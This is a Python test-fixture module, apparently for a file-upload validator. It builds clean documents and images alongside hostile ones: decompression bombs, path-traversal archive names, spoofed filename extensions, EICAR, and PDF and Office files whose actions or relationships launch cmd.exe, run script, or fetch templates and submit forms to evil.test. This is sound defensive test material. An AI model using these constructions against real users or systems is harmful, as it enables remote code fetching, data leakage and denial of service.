"""Files, made on the spot: good ones of every kind, and bad ones of every kind that is known."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
OFFICE = "application/vnd.openxmlformats-officedocument."
DOCX_MAIN = f"{OFFICE}wordprocessingml.document.main+xml"
XLSX_MAIN = f"{OFFICE}spreadsheetml.sheet.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MEGABYTE = 1024 * 1024
CALC = Path(__file__).with_name("calc.xlsx")  # as LibreOffice 7 saves one


# Good files -----------------------------------------------------------------------------


def picture(kind="PNG", size=(40, 30), **options):
    file = io.BytesIO()
    Image.new("RGB", size, "teal").save(file, kind, **options)
    return file.getvalue()


def pdf(change=None, **options):
    file = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        if change:
            change(document)
        document.save(file, **options)
    return file.getvalue()


def package(members, *, compression=zipfile.ZIP_DEFLATED):
    """A ZIP of pairs of a name, or a ZipInfo, and content."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return file.getvalue()


def content_types(name, content_type):
    return (
        f'<Types xmlns="{TYPES}"><Override PartName="{name}" '
        f'ContentType="{content_type}"/></Types>'
    )


def docx(*more, content_type=DOCX_MAIN, main="<document/>"):
    return package(
        [
            ("[Content_Types].xml", content_types("/word/document.xml", content_type)),
            ("word/document.xml", main),
            *more,
        ]
    )


def xlsx(*more):
    return package(
        [
            ("[Content_Types].xml", content_types("/xl/workbook.xml", XLSX_MAIN)),
            ("xl/workbook.xml", "<workbook/>"),
            *more,
        ]
    )


GOOD = {
    "minutes.pdf": pdf,
    "letter.docx": docx,
    "figures.xlsx": xlsx,
    "plan.png": picture,
    "photo.jpg": lambda: picture("JPEG"),
    "photo.jpeg": lambda: picture("JPEG"),
    "CAPITALS.PDF": pdf,
    "tŷ a'r ŵyn.pdf": pdf,
    "large photo.jpg": lambda: picture("JPEG", (6000, 4000)),
    "linear.pdf": lambda: pdf(linearize=True),
    "links.pdf": lambda: pdf(link(**TO_AN_ADDRESS)),
    "opens at a place.pdf": lambda: pdf(opening(**TO_A_PLACE)),
    "links.docx": lambda: related(
        relationship("hyperlink", "https://example.test/"),
        relationship("styles", "styles.xml", mode="Internal"),
        part="word/_rels/document.xml.rels",
    ),
    "chart.docx": lambda: docx(
        (
            "word/charts/_rels/chart1.xml.rels",
            relationships(
                relationship("package", "../embeddings/Workbook1.xlsx", mode="Internal")
            ),
        ),
        ("word/embeddings/Workbook1.xlsx", xlsx()),
    ),
    "marked.docx": lambda: docx(main=b"\xef\xbb\xbf<document/>"),
    "from LibreOffice.xlsx": CALC.read_bytes,
}


# Bad files ------------------------------------------------------------------------------


def chunk(kind, content):
    return (
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content))
    )


def png_bomb(width, height, rows=b""):
    """A PNG that says it is so large, from hardly anything."""
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def zip_bomb(size=200 * MEGABYTE):
    return docx(("word/media/image1.bin", b"\0" * size))


def lying_zip_bomb():
    """A member whose directory says that it is small, and its content is not."""
    honest = docx(("word/big.xml", b"\0" * (120 * MEGABYTE)))
    return honest.replace(struct.pack("<I", 120 * MEGABYTE), struct.pack("<I", 100_000))


def pdf_bomb():
    """A stream of object data that grows to a gigabyte when the file is opened."""
    level = zlib.compressobj(9)
    block = b" " * MEGABYTE
    packed = b"".join(level.compress(block) for _ in range(1024)) + level.flush()
    head = b"%PDF-1.5\n"
    stream = (
        b"1 0 obj\n<< /Type /XRef /Size 2 /W [1 4 2] /Root 2 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n" % len(packed)
    )
    return (
        head
        + stream
        + packed
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)
    )


def with_script(document):
    document.Root.OpenAction = Dictionary(
        S=Name.JavaScript, JS=String("app.alert('!')")
    )


def opening(**action):
    """What gives a PDF an action that nobody has to click."""

    def change(document):
        document.Root.OpenAction = Dictionary(**action)

    return change


def on_a_page(**action):
    def change(document):
        document.pages[0].AA = Dictionary(O=Dictionary(**action))

    return change


def link(**action):
    """What gives a page of a PDF a place to click."""

    def change(document):
        document.pages[0].Annots = Array(
            [
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([0, 0, 9, 9]),
                    A=Dictionary(**action),
                )
            ]
        )

    return change


TO_AN_ADDRESS = {"S": Name.URI, "URI": String("https://example.test/")}
PLACE = {"D": Array([0, Name.Fit])}
TO_A_PLACE = {"S": Name.GoTo, **PLACE}


def with_file(document):
    document.attachments["inner.exe"] = b"MZ\x90\0"


def encrypted():
    return pdf(encryption=pikepdf.Encryption(owner="owner", user="user"))


def member(name):
    """A name that ``zipfile`` would tidy."""
    info = zipfile.ZipInfo("x")
    info.filename = name
    return info


HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PROGRAM = b"MZ\x90\0" + b"\0" * 600
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SETTINGS = "word/_rels/settings.xml.rels"


def relationships(*rows, declaration='<?xml version="1.0" encoding="UTF-8"?>'):
    return (
        f'{declaration}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships">{"".join(rows)}</Relationships>'
    )


def relationship(kind, target, *, mode="External", of=RELATIONSHIP):
    return f'<Relationship Id="r1" Type="{of}{kind}" Target="{target}" TargetMode="{mode}"/>'


TEMPLATE = relationship("attachedTemplate", "http://evil.test/a.dotm")


def related(*rows, part=SETTINGS, **options):
    return docx((part, relationships(*rows, **options)))


ENTITIES = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'

BAD = {
    # the name
    ("page.html", "kind"): lambda: HTML,
    ("picture.svg", "kind"): lambda: SVG,
    ("program.exe", "kind"): lambda: PROGRAM,
    ("minutes.pdf.exe", "kind"): pdf,
    ("minutes.pdf.html", "kind"): lambda: HTML,
    ("archive.zip", "kind"): lambda: package([("a.txt", "a")]),
    ("old.doc", "kind"): lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 70,
    ("macros.docm", "kind"): docx,
    ("no ending", "kind"): pdf,
    (".pdf", "kind"): pdf,
    ("minutes.exe\0.pdf", "name"): pdf,
    ("annual\N{RIGHT-TO-LEFT OVERRIDE}fdp.exe", "name"): lambda: PROGRAM,
    ("annual\N{RIGHT-TO-LEFT OVERRIDE}gnp.pdf", "name"): pdf,
    ("two\r\nlines.pdf", "name"): pdf,
    # the content is something else
    ("empty.pdf", "empty"): lambda: b"",
    ("page.pdf", "disagrees"): lambda: HTML,
    ("drawing.png", "disagrees"): lambda: SVG,
    ("program.pdf", "disagrees"): lambda: PROGRAM,
    ("eicar.pdf", "disagrees"): lambda: EICAR,
    ("eicar.docx", "disagrees"): lambda: EICAR,
    ("letter.pdf", "disagrees"): docx,
    ("letter.xlsx", "disagrees"): docx,
    ("figures.docx", "disagrees"): xlsx,
    ("minutes.docx", "disagrees"): pdf,
    ("photo.png", "disagrees"): lambda: picture("JPEG"),
    ("plan.jpg", "disagrees"): picture,
    ("moving.png", "disagrees"): lambda: picture("GIF"),
    ("any.docx", "disagrees"): lambda: package([("a.txt", "a")]),
    ("junk first.pdf", "disagrees"): lambda: b"\n\n" + pdf(),
    # two things at once
    ("page and.pdf", "damaged"): lambda: b"%PDF-1.7\n" + HTML + b"\n%%EOF\n",
    ("and archive.pdf", "damaged"): lambda: pdf() + package([("a.html", HTML)]),
    ("and archive.jpg", "damaged"): lambda: picture("JPEG") + package([("a", "a")]),
    ("and page.png", "damaged"): lambda: picture() + HTML,
    ("program and.docx", "disagrees"): lambda: PROGRAM + docx(),
    ("and page.docx", "damaged"): lambda: docx() + HTML,
    # it runs something, fetches something, carries something
    ("script.pdf", "active"): lambda: pdf(with_script),
    ("launch.pdf", "active"): lambda: pdf(link(S=Name.Launch, F=String("cmd.exe"))),
    ("carrier.pdf", "active"): lambda: pdf(with_file),
    ("macros.docx", "active"): lambda: docx(("word/vbaProject.bin", "x")),
    ("renamed macros.docx", "disagrees"): lambda: docx(
        content_type="application/xml", main="<document/>"
    ),
    ("enabled.docx", "active"): lambda: docx(content_type=MACRO_MAIN),
    ("control.xlsx", "active"): lambda: xlsx(("xl/activeX/activeX1.bin", "x")),
    ("object.docx", "active"): lambda: docx(("word/embeddings/oleObject1.bin", "x")),
    ("package.docx", "active"): lambda: docx(("word/embeddings/package.bin", PROGRAM)),
    ("program in a chart.docx", "active"): lambda: docx(
        ("word/embeddings/Workbook1.xlsx", PROGRAM)
    ),
    ("template.docx", "active"): lambda: related(TEMPLATE),
    ("single quotes.docx", "active"): lambda: related(TEMPLATE.replace('"', "'")),
    ("spaces.docx", "active"): lambda: related(TEMPLATE.replace("=", " = ")),
    ("references.docx", "active"): lambda: related(
        TEMPLATE.replace("http:", "&#104;ttp:")
    ),
    ("hidden kind.docx", "active"): lambda: related(
        TEMPLATE.replace("Temp", "&#84;emp")
    ),
    ("share.docx", "active"): lambda: related(TEMPLATE.replace("http:", "file:")),
    ("capitals.docx", "active"): lambda: docx(
        ("word/_rels/settings.xml.RELS", relationships(TEMPLATE))
    ),
    ("utf-16.docx", "damaged"): lambda: docx(
        (
            SETTINGS,
            relationships(
                TEMPLATE, declaration='<?xml version="1.0" encoding="utf-16"?>'
            ).encode("utf-16"),
        )
    ),
    ("utf-16 without a mark.docx", "damaged"): lambda: docx(
        (SETTINGS, relationships(TEMPLATE, declaration="").encode("utf-16-le"))
    ),
    ("utf-7.docx", "damaged"): lambda: related(
        declaration='<?xml version="1.0" encoding="utf-7"?>'
    ),
    ("ebcdic.docx", "damaged"): lambda: docx(
        (
            SETTINGS,
            relationships(
                TEMPLATE, declaration='<?xml version="1.0" encoding="cp037"?>'
            ).encode("cp037"),
        )
    ),
    ("no markup.docx", "damaged"): lambda: docx((SETTINGS, "<Relationships>")),
    ("object elsewhere.docx", "active"): lambda: related(
        relationship("oleObject", "http://evil.test/x")
    ),
    ("frame.docx", "active"): lambda: related(
        relationship("frame", "http://evil.test/x")
    ),
    ("picture elsewhere.docx", "active"): lambda: related(
        relationship("image", "http://evil.test/x.png")
    ),
    ("another inside.docx", "active"): lambda: related(
        relationship("aFChunk", "inner.html", mode="Internal")
    ),
    ("renamed object.docx", "active"): lambda: related(
        relationship("oleObject", "media/image1.png", mode="Internal")
    ),
    ("package in a text.docx", "active"): lambda: related(
        relationship("package", "embeddings/Workbook1.xlsx", mode="Internal")
    ),
    ("renamed macros.xlsx", "active"): lambda: xlsx(
        (
            "xl/_rels/workbook.xml.rels",
            relationships(
                relationship(
                    "vbaProject",
                    "media/image1.png",
                    mode="Internal",
                    of="http://schemas.microsoft.com/office/2006/relationships/",
                )
            ),
        )
    ),
    ("another workbook.xlsx", "active"): lambda: xlsx(
        (
            "xl/_rels/workbook.xml.rels",
            relationships(
                relationship("externalLink", "links/link1.xml", mode="Internal")
            ),
        )
    ),
    ("entities.xlsx", "active"): lambda: xlsx(("xl/styles.xml", ENTITIES)),
    ("utf-16 entities.docx", "damaged"): lambda: docx(
        ("word/styles.xml", ENTITIES.encode("utf-16"))
    ),
    ("address.pdf", "active"): lambda: pdf(opening(**TO_AN_ADDRESS)),
    ("address of a page.pdf", "active"): lambda: pdf(on_a_page(**TO_AN_ADDRESS)),
    ("address after a place.pdf", "active"): lambda: pdf(
        opening(**TO_A_PLACE, Next=Array([Dictionary(**TO_AN_ADDRESS)]))
    ),
    ("form that is sent.pdf", "active"): lambda: pdf(
        link(S=Name.SubmitForm, F=String("http://evil.test/"))
    ),
    ("form that is filled.pdf", "active"): lambda: pdf(
        link(S=Name.ImportData, F=String("figures.fdf"))
    ),
    ("another document.pdf", "active"): lambda: pdf(
        opening(S=Name.GoToR, F=String("\\\\evil.test\\a.pdf"), **PLACE)
    ),
    ("document inside.pdf", "active"): lambda: pdf(link(S=Name.GoToE, **PLACE)),
    # it grows
    ("bomb.docx", "grows"): zip_bomb,
    ("bomb.pdf", "damaged"): pdf_bomb,
    ("lying bomb.docx", "damaged"): lying_zip_bomb,
    ("thousands.xlsx", "grows"): lambda: xlsx(
        *((f"xl/media/{number}.txt", "x") for number in range(1_100))
    ),
    ("wide.png", "grows"): lambda: png_bomb(60_000, 60_000),
    ("wide.jpg", "grows"): lambda: picture("JPEG", (9_000, 9_000)),
    # it leaves its place
    ("slip.docx", "damaged"): lambda: docx((member("../../etc/passwd"), "x")),
    ("slip.xlsx", "damaged"): lambda: xlsx((member("/etc/passwd"), "x")),
    ("windows.docx", "damaged"): lambda: docx((member("word\\..\\..\\a.exe"), "x")),
    # it cannot be opened
    ("cut.pdf", "damaged"): lambda: pdf()[:-40],
    ("cut.docx", "damaged"): lambda: docx()[:-40],
    ("cut.png", "damaged"): lambda: picture(size=(400, 300))[:-40],
    ("cut.jpg", "damaged"): lambda: picture("JPEG")[:-40],
    ("no pixels.png", "damaged"): lambda: png_bomb(400, 300),
    ("no table.pdf", "damaged"): lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF\n",
    ("no pages.pdf", "damaged"): lambda: pdf(lambda made: made.pages.__delitem__(0)),
    ("locked.pdf", "locked"): encrypted,
    # it is too large
    ("eleven.pdf", "size"): lambda: pdf() + b"\n" * (10 * MEGABYTE),
    ("a byte more.png", "size"): lambda: b"\x89PNG" + b"x" * (10 * MEGABYTE - 3),
}
